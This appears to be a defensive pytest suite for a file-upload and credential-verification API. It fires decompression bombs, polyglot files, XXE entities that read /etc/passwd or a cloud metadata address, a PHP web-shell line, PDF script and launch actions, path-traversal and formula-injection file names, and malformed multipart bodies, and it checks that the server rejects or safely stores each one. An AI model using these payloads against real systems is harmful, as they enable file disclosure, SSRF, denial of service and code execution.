"""Attempts by what is sent as a file: bombs, two kinds in one, names that lead out, and forms that are none.

What is refused leaves nothing, in the database and in storage; what is taken in is never read, unpacked or
shown as a page: it goes out as it came, to be saved.
"""

import base64
import io
import json
import struct
import time
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.attacks.server import spoken, statuses
from tests.attacks.siege import OPEN, Siege
from tests.samples import MANIFEST, ODT_TYPE, PDF, REFUSED, SVG, TAKEN, WORD, docx, odt, packed, picture
from tests.world import PILOT

# No attack keeps the server busy for as long as this, in seconds, on a machine that others use too.
PROMPT = 15
BOUNDARY = "b"
LIMIT = 26_214_400
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 if n > 1 else str()};" * 10}">' for n in range(1, 10))
    + "]><x>&lol9;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
ASKING = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://169.254.169.254/latest/meta-data/"><x/>'
QUADRATIC = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "' + "a" * 50_000 + '">]><x>' + "&a;" * 5000 + "</x>"
)


def lying(size: int) -> bytes:
    """A document whose largest part says that it is ten bytes long, and is zeros of this size."""
    content = bytearray(packed({**WORD, "word/media": "0" * size}))
    place = content.rindex(b"PK\x01\x02")
    content[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(content)


def nested(depth: int) -> bytes:
    """A document that holds a ZIP that holds a ZIP, and so on."""
    inner = b"0" * 100_000
    for _ in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("a.zip", inner)
        inner = made.getvalue()
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in WORD.items():
            archive.writestr(name, text)
        archive.writestr("word/media/a.zip", inner)
    return made.getvalue()


def lying_manifest() -> bytes:
    """An OpenDocument whose manifest says that it is short, and unpacks to far more than is read of it."""
    content = bytearray(odt(manifest=MANIFEST + " " * (32 * 1024**2)))
    place = content.rindex(b"PK\x01\x02", 0, content.rindex(b"META-INF/manifest.xml"))
    content[place + 24 : place + 28] = struct.pack("<I", 100)
    return bytes(content)


def in_odt(text: str) -> bytes:
    """An OpenDocument with this content."""
    return odt(parts={"styles.xml": text})


def made(content: Any) -> Any:
    """What a table holds; what takes long to make is made when it is sent."""
    return content() if callable(content) else content


# What is never a file of ours, beside what the rules' own tests have.
BOMBS: dict[str, Any] = {
    "a directory that says it is everything": REFUSED["a document of too many parts"][0],
    "parts that lie over one another": REFUSED["a bomb of parts that overlap"][0],
    "a gigabyte, by its directory": REFUSED["a bomb"][0],
    "a manifest that says it is short": lying_manifest,
    "a manifest without end": REFUSED["an OpenDocument with a huge manifest"][0],
    "a ZIP within a ZIP": lambda: packed({"a.zip": nested(3).decode("latin-1")}),
    "a ZIP of 64 bits": docx()[:-22] + b"PK\x06\x07" + bytes(16) + docx()[-22:],
    "a picture of four thousand million dots": (
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + b"\xff\xff\xff\xff" * 2 + b"\x08\x06\0\0\0" + bytes(4)
    ),
    "gzip": zlib.compress(bytes(10**6), wbits=31),
    "nothing but zeros": bytes(100_000),
}
POLYGLOTS = {
    "a page in a PDF's place": b"<html><script>alert(1)</script>%PDF-1.7\n%%EOF\n",
    "a PDF after a page": b"<script>alert(1)</script>\n" + PDF,
    "a drawing with a script": SVG,
    "a drawing with a script, as XML": b'<?xml version="1.0"?>' + SVG,
    "a drawing in a PNG's first bytes": b"\x89PNG\r\n\x1a\n" + SVG,
    "a GIF that is a script": b"GIF89a/*\x01*/=1;alert(1)",
    "a program of Java after a photo": picture("image/jpeg") + packed({"A.class": "x"}),
    "a program of Java in a PDF": PDF + packed({"A.class": "x"}),
    "a program of PHP after a PNG": picture("image/png") + b"<?php system($_GET[0]); ?>",
    "a program of Windows": b"MZ" + PDF,
    "a script of a shell": b"#!/bin/sh\nid\n" + PDF[:100],
    "an application of HTML": b"<hta:application>" + PDF,
    "a PostScript program": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n%%EOF\n",
    "a workbook": packed({"[Content_Types].xml": OUTSIDE, "xl/workbook.xml": LAUGHS}),
    "a document with macros": REFUSED["a document with macros"][0],
    "a document that leads out": REFUSED["a document that leads out"][0],
    "a document with a link to a file": REFUSED["a document with a link"][0],
    "a message": b"From: a@b\r\nContent-Type: text/html\r\n\r\n<script>",
    "a torrent of nothing": b"\0",
}


def form(content: bytes, name: str | bytes = "plan.pdf", kind: str = "application/pdf") -> bytes:
    """A form with one file."""
    called = name.encode() if isinstance(name, str) else name
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="' + called + b'"\r\n'
    return head + f"Content-Type: {kind}\r\n\r\n".encode() + content + b"\r\n--b--\r\n"


def send(siege: Siege, body: bytes, kind: str = "multipart/form-data; boundary=b") -> httpx.Response:
    """The answer to a body as a file of the participant's, by who gives the training."""
    path = f"/v1/registrations/{siege.spoils.theirs['registrationId']}/progress/onderzoek/files"
    began = time.monotonic()
    answer = siege.world.provider.request("POST", path, content=body, headers={"Content-Type": kind.encode()})
    assert time.monotonic() - began < PROMPT
    return answer


def remove(siege: Siege, id: str) -> None:
    """Remove a file; its content goes when the answer has been sent."""
    before, until = stored(siege), time.monotonic() + PROMPT
    assert siege.world.provider.delete(f"/v1/files/{id}").status_code == 204
    while stored(siege) == before and time.monotonic() < until:
        time.sleep(0.01)
    assert stored(siege) == before - 1


def stored(siege: Siege) -> int:
    """How many files there are in storage."""
    root: Path = siege.world.app.state.settings.data_dir / "files"
    return sum(1 for path in root.rglob("*") if path.is_file())


@pytest.fixture
def unfilled(untouched: Siege) -> Iterator[Siege]:
    """The besieged server, in whose storage nothing is left."""
    before = stored(untouched)
    yield untouched
    assert stored(untouched) == before


@pytest.mark.parametrize("name", BOMBS)
def test_no_bomb_goes_off(unfilled: Siege, name: str) -> None:
    answer = send(unfilled, form(made(BOMBS[name]), "plan.docx"))
    assert answer.status_code == 400, answer.text
    assert [fault["pointer"] for fault in answer.json()["errors"]] == ["#/file"]


@pytest.mark.parametrize("name", POLYGLOTS)
def test_nothing_is_taken_in_that_is_something_else_too(unfilled: Siege, name: str) -> None:
    """Whatever its name and its type say."""
    for called, kind in (("plan.pdf", "application/pdf"), ("foto.png", "image/png"), ("x.docx", "text/html")):
        answer = send(unfilled, form(POLYGLOTS[name], called, kind))
        assert answer.status_code == 400, answer.text
        assert [fault["pointer"] for fault in answer.json()["errors"]] == ["#/file"]


WITHIN: dict[str, Any] = {
    "entities that grow, in Word": packed({**WORD, "word/document.xml": LAUGHS}),
    "entities that grow, in its list of parts": packed({**WORD, "[Content_Types].xml": LAUGHS}),
    "an entity from a file, in Word": packed({**WORD, "word/document.xml": OUTSIDE}),
    "an entity from the network, in Word": packed({**WORD, "[Content_Types].xml": ASKING}),
    "one long entity many times": packed({**WORD, "word/document.xml": QUADRATIC}),
    "entities that grow, in OpenDocument": in_odt(LAUGHS),
    "an entity from a file, in OpenDocument": in_odt(OUTSIDE),
    "entities that grow, in a manifest": odt(manifest=LAUGHS),
    "an entity from a file, in a manifest": odt(manifest=OUTSIDE),
    "a template from the network": packed(
        {**WORD, "word/_rels/settings.xml.rels": '<Relationship Target="http://attacker.example/x.dotm"/>'}
    ),
    "a ZIP within a ZIP, in Word": lambda: nested(3),
    "a part that says it is short": lambda: lying(2 * 1024**2),
    "a script in a PDF": PDF.replace(b"/Pages", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>/Pages"),
    "a program to launch in a PDF": PDF.replace(b"/Pages", b"/AA<</O<</S/Launch/F(calc)>>>>/Pages"),
    "a page behind a photo's remark": picture("image/jpeg")[:2]
    + b"\xff\xfe\x00\x21<script>alert(document.domain)"
    + picture("image/jpeg")[2:],
}


@pytest.mark.parametrize("name", WITHIN)
def test_what_is_taken_in_is_never_read(siege: Siege, name: str) -> None:
    """It comes out to the letter, as a file to save, of the kind that it was found to be."""
    content: bytes = made(WITHIN[name])
    answer = send(siege, form(content, "plan.html", "text/html"))
    assert answer.status_code == 201, answer.text
    file = answer.json()
    assert file["name"].rpartition(".")[2] in ("pdf", "docx", "odt", "jpg")
    given = siege.world.provider.get(f"/v1/files/{file['id']}/content")
    assert given.content == content
    assert given.headers["content-type"] == file["mediaType"]
    assert "html" not in given.headers["content-type"]
    assert given.headers["content-disposition"].startswith("attachment;")
    assert "default-src 'none'" in given.headers["content-security-policy"]
    remove(siege, file["id"])


NAMES: dict[str, str | bytes] = {
    "a folder above": "../../../../etc/cron.d/x.pdf",
    "a folder above, backwards": "..\\..\\windows\\x.pdf",
    "the root": "/etc/passwd",
    "a drive": "C:\\autoexec.pdf",
    "a share": "\\\\attacker.example\\x.pdf",
    "a folder above, encoded": "..%2f..%2fx.pdf",
    "a folder above, twice encoded": "..%252f..%252fx.pdf",
    "a folder above, overlong": b"..\xc0\xaf..\xc0\xafx.pdf",
    "dots alone": "..",
    "a NUL before the ending": "x.exe\0.pdf",
    "a mark that turns the reading round": "plan\u202efdp.exe",
    "marks of direction": "\u2066\u200fplan\u2069.pdf",
    "an ending that is hidden by spaces": "plan.pdf" + " " * 100 + ".exe",
    "two endings": "plan.pdf.exe",
    "a stream of Windows": "plan.pdf:x.exe",
    "a device of Windows": "CON.pdf",
    "a hidden file": ".htaccess",
    "a setting of a server": ".user.ini",
    "a wide folder above": "\uff0e\uff0e\uff0fx.pdf",
    "letters of another alphabet": "рlаn.pdf",
    "nothing": "",
    "a thousand letters": "a" * 1000 + ".pdf",
    "a thousand marks": "a" + "\u0301" * 1000 + ".pdf",
    "a page": "<img src=x onerror=alert(1)>.pdf",
    "a formula": "=cmd|x!A.pdf",
    "an option": "--help.pdf",
    "a key of storage": "0" * 32,
}


@pytest.mark.parametrize("name", NAMES)
def test_no_name_leads_anywhere(siege: Siege, name: str) -> None:
    root: Path = siege.world.app.state.settings.data_dir
    answer = send(siege, form(PDF + name.encode(), NAMES[name]))
    assert answer.status_code in (201, 400), answer.text
    if answer.status_code == 201:
        called = answer.json()["name"]
        assert called.endswith(".pdf")
        assert not {"/", "\\", "\0", ":", "<", "\u202e", "\u2066", "\u200f"} & set(called)
        assert not called.startswith(".")
        assert len(called.encode()) <= 255
        remove(siege, answer.json()["id"])
    # Files stand where they always do, under names of the register's own.
    for path in root.rglob("*"):
        if path.is_file() and path.parent != root:
            assert path.relative_to(root).parts[0] == "files"
            assert len(path.name) == 32


GOOD = form(PDF)
PART = b'--b\r\nContent-Disposition: form-data; name="file"; filename="a.pdf"\r\n\r\n'
FORMS: dict[str, tuple[bytes, str]] = {
    "no boundary": (GOOD, "multipart/form-data"),
    "an empty boundary": (GOOD, "multipart/form-data; boundary="),
    "a boundary that is too long": (GOOD, f"multipart/form-data; boundary={'b' * 71}"),
    "another boundary": (GOOD, "multipart/form-data; boundary=other"),
    "a boundary in another alphabet": (GOOD, 'multipart/form-data; boundary="é"'),
    "two boundaries": (GOOD, "multipart/form-data; boundary=x; boundary=y"),
    "another multipart": (GOOD, "multipart/mixed; boundary=b"),
    "a form of fields": (b"file=x", "application/x-www-form-urlencoded"),
    "the file itself": (PDF, "application/pdf"),
    "JSON": (b'{"file": "x"}', "application/json"),
    "no end": (GOOD[:-8], "multipart/form-data; boundary=b"),
    "no parts": (b"--b--\r\n", "multipart/form-data; boundary=b"),
    "nothing": (b"", "multipart/form-data; boundary=b"),
    "two files": (GOOD[:-7] + GOOD, "multipart/form-data; boundary=b"),
    "the same field twice, one empty": (PART + b"\r\n" + GOOD, "multipart/form-data; boundary=b"),
    "five thousand parts": (PART * 5000 + b"x\r\n--b--\r\n", "multipart/form-data; boundary=b"),
    "five thousand other fields": (
        b'--b\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n' * 5000 + GOOD,
        "multipart/form-data; boundary=b",
    ),
    "a field beside the file": (
        b'--b\r\nContent-Disposition: form-data; name="verdict"\r\n\r\npassed\r\n' + GOOD,
        "multipart/form-data; boundary=b",
    ),
    "a form within a form": (
        b"--b\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n" + GOOD + b"--c--\r\n",
        "multipart/form-data; boundary=b",
    ),
    "a head without end": (
        b'--b\r\nContent-Disposition: form-data; name="file"' + b"x" * 100_000,
        "multipart/form-data; boundary=b",
    ),
    "ten thousand heads": (
        b"--b\r\n" + b"X-A: b\r\n" * 10_000 + b"\r\n\r\n--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    "no name": (
        b"--b\r\nContent-Disposition: form-data\r\n\r\n" + PDF + b"\r\n--b--\r\n",
        "multipart/form-data; boundary=b",
    ),
    "a name of another field": (
        GOOD.replace(b'name="file"', b'name="files"'),
        "multipart/form-data; boundary=b",
    ),
    "a name that is a list": (
        GOOD.replace(b'name="file"', b'name="file[]"'),
        "multipart/form-data; boundary=b",
    ),
    "no disposition": (b"--b\r\n\r\n" + PDF + b"\r\n--b--\r\n", "multipart/form-data; boundary=b"),
    "line ends of Unix": (GOOD.replace(b"\r\n", b"\n"), "multipart/form-data; boundary=b"),
    "a text before the first part": (b"x" * 1000 + b"--b\r\n", "multipart/form-data; boundary=b"),
}


@pytest.mark.parametrize("name", FORMS)
def test_no_form_but_one_with_a_file_is_taken(unfilled: Siege, name: str) -> None:
    body, kind = FORMS[name]
    answer = send(unfilled, body, kind)
    assert answer.status_code in (400, 415), answer.text
    assert answer.headers["content-type"] == "application/problem+json"


def test_the_form_that_all_of_them_differ_from_is_taken(siege: Siege) -> None:
    answer = send(siege, GOOD)
    assert answer.status_code == 201, answer.text
    remove(siege, answer.json()["id"])


TOO_MUCH = {
    "a body that says it is": b"Content-Length: %d\r\n\r\n" % (LIMIT + 100_000),
    "a body that says it is endless": b"Content-Length: 99999999999999999999\r\n\r\n",
    "a body of pieces": b"Transfer-Encoding: chunked\r\n\r\n",
}


@pytest.mark.parametrize("name", TOO_MUCH)
def test_no_file_is_larger_than_it_may_be(unfilled: Siege, name: str) -> None:
    """Byte by byte, since no library says something else than it sends."""
    theirs, token = unfilled.spoils.theirs["registrationId"], unfilled.world.provider.token()
    head = (
        f"POST /v1/registrations/{theirs}/progress/onderzoek/files HTTP/1.1\r\n"
        "Host: x\r\nConnection: close\r\n"
        f"Authorization: Bearer {token}\r\nContent-Type: multipart/form-data; boundary=b\r\n"
    ).encode()
    piece = PART + b"%PDF-1.7\n" + b"x" * 1_048_576
    pieces = [b"%x\r\n%b\r\n" % (len(piece), piece)] * 27 if "pieces" in name else []
    answer = spoken(unfilled.server, head + TOO_MUCH[name], *pieces, b"0\r\n\r\n" if pieces else b"")
    assert statuses(answer)[:1] in ([413], [400]), answer[:300]
    assert unfilled.world.http.get("/health/live").status_code == 200


def test_who_may_not_add_files_sends_none(unfilled: Siege) -> None:
    theirs = unfilled.spoils.theirs["registrationId"]
    for party in (
        unfilled.world.fleck,
        unfilled.world.mocca,
        unfilled.world.lkca,
        unfilled.party("outsider"),
    ):
        answer = party.request(
            "POST",
            f"/v1/registrations/{theirs}/progress/onderzoek/files",
            content=GOOD,
            headers={"Content-Type": "multipart/form-data; boundary=b"},
        )
        assert answer.status_code in (403, 404), answer.text


def flate(size: int) -> bytes:
    """A PDF with an attachment that unpacks to this many zeros."""
    packed_ = zlib.compress(bytes(size), 9)
    head = b"1 0 obj<</Type/EmbeddedFile/Filter/FlateDecode/Length %d>>stream\n" % len(packed_)
    return b"%PDF-1.7\n" + head + packed_ + b"\nendstream endobj\n%%EOF"


CHECKED: dict[str, dict[str, Any]] = {
    "an attachment that unpacks to 200 MB": {"pdf": lambda: flate(200 * 1024**2)},
    "attachments without end": {
        "pdf": b"%PDF-1.7\n"
        + b"1 0 obj<</Type/EmbeddedFile>>stream\n{}\nendstream endobj\n" * 10_000
        + b"%%EOF"
    },
    "a dictionary without end": {"pdf": b"%PDF-1.7\n1 0 obj" + b"<<" * 200_000 + b"%%EOF"},
    "spaces without end": {"pdf": b"%PDF-1.7\n1 0 obj<</Type" + b" " * 600_000 + b"/EmbeddedFile>>%%EOF"},
    "objects without end": {"pdf": b"%PDF-1.7\n" + b"1 0 obj " * 80_000 + b"%%EOF"},
    "streams without end": {"pdf": b"%PDF-1.7\n1 0 obj" + b"/EmbeddedFile stream\n" * 30_000 + b"%%EOF"},
    "a credential that is deep": {"credential": "[" * 50_000 + "]" * 50_000},
    "a credential of deep objects": {"credential": '{"a":' * 15_000 + "1" + "}" * 15_000},
    "a credential with a name many times": {"credential": "{" + '"a":1,' * 15_000 + '"a":1}'},
    "a credential with a huge number": {"credential": '{"a":' + "9" * 50_000 + "}"},
    "a credential with graphs to compare": {
        "credential": json.dumps(
            {"@graph": [{"@id": f"_:b{n}", "x": {"@id": f"_:b{n + 1}"}} for n in range(1500)]}
        )
    },
    "a credential whose context is elsewhere": {
        "credential": json.dumps({"@context": ["http://169.254.169.254/"], "id": "http://169.254.169.254/"})
    },
    "a credential in the name of another address": {
        "credential": json.dumps({"id": "https://register.example/v1/verifications/../../etc/passwd"})
    },
    "a token whose parts are long": {"credential": f"{'a' * 30_000}.{'b' * 30_000}.{'c' * 30_000}"},
}


@pytest.mark.parametrize("name", CHECKED)
def test_no_credential_or_pdf_keeps_the_check_busy(untouched: Siege, name: str) -> None:
    sent = {key: made(value) for key, value in CHECKED[name].items()}
    body = {
        key: base64.b64encode(value).decode() if isinstance(value, bytes) else value
        for key, value in sent.items()
    }
    began = time.monotonic()
    answer = untouched.world.http.post("/v1/verifications", json=body)
    assert time.monotonic() - began < PROMPT
    assert answer.status_code in (200, 400, 413), answer.text
    if answer.status_code == 200:
        assert answer.json()["verdict"] == "unknown"


ROWS = {
    "a workbook": TAKEN["plan.docx"][0],
    "a document with entities": LAUGHS.encode(),
    "gzip": zlib.compress(b"editie;voornaam\n" * 1000, wbits=31),
    "quotation marks that never end": b'editie;voornaam\n"' + b"x" * 500_000,
    "a cell without end": b"editie;voornaam\n" + b"x" * 500_000,
    "columns without end": b";" * 200_000 + b"\n",
    "a column twice": b"editie;editie\nx;y\n",
    "UTF-7": b"+ADw-script+AD4-;voornaam\n",
    "UTF-16 without its mark": "editie;voornaam\nx;y\n".encode("utf-16-le"),
    "NULs": b"editie;voornaam\n\0\0;\0\n",
    "a type of OpenDocument": odt(),
    "a header alone": b"editie;voornaam\n",
}


@pytest.mark.parametrize("name", ROWS)
def test_no_table_is_more_than_a_table(untouched: Siege, name: str) -> None:
    began = time.monotonic()
    answer = untouched.world.fleck.request(
        "POST", "/v1/registration-imports", content=ROWS[name], headers={"Content-Type": "text/csv"}
    )
    assert time.monotonic() - began < PROMPT
    assert answer.status_code == 400, answer.text
    assert answer.json()["errors"]


KINDS = (
    *(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "application/zip",
        "application/xml",
    ),
    *(
        "application/gzip",
        "text/csv; charset=utf-7",
        "text/csv; charset=idna",
        "text/csv; charset=zlib_codec",
    ),
    *("text/csv; charset=unicode_escape", "text/csv; charset=rot13", "text/html", ODT_TYPE),
)


@pytest.mark.parametrize("kind", KINDS)
def test_no_table_is_read_as_anything_else(untouched: Siege, kind: str) -> None:
    """Charsets of Python's that are no charsets among them."""
    body = f"editie;voornaam;achternaam;e-mail\n{OPEN};A;B;x@y.example\n{PILOT};;;\n".encode()
    answer = untouched.world.fleck.request(
        "POST", "/v1/registration-imports", content=body, headers={"Content-Type": kind}
    )
    assert answer.status_code in (400, 415), answer.text
